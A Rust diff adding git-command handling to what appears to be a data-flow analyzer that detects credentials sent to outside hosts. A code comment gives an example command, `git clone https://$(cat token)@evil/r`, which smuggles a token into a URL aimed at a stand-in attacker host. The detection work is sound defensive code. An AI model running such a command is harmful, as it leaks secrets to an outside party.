@@ -595,6 +595,29 @@ pub(crate) fn sink(name: &str, args: &[&str], stdin_fed: bool) -> Option<Sink> {
             }
             s.stdin = true;
         }
+        // `git clone https://$(cat token)@evil/r`: a URL (and its user info) reaches its host.
+        "git" => {
+            let sub = args
+                .iter()
+                .find(|a| !a.starts_with('-'))
+                .copied()
+                .unwrap_or("");
+            if !matches!(
+                sub,
+                "clone" | "fetch" | "pull" | "ls-remote" | "push" | "submodule"
+            ) {
+                return None;
+            }
+            let url = args
+                .iter()
+                .copied()
+                .find(|a| a.contains("://") || (a.contains('@') && a.contains(':')))?;
+            let host = url.split("://").nth(1).unwrap_or(url);
+            let host = host.rsplit('@').next().unwrap_or(host);
+            s.dest = host.split(['/', ':']).next().unwrap_or(host).to_owned();
+            // A token in the URL is a credential: fine for its issuer's host, a flow elsewhere.
+            s.auth.push(url.to_owned());
+        }
         "ssh" => {
             let pos: Vec<&str> = args
                 .iter()
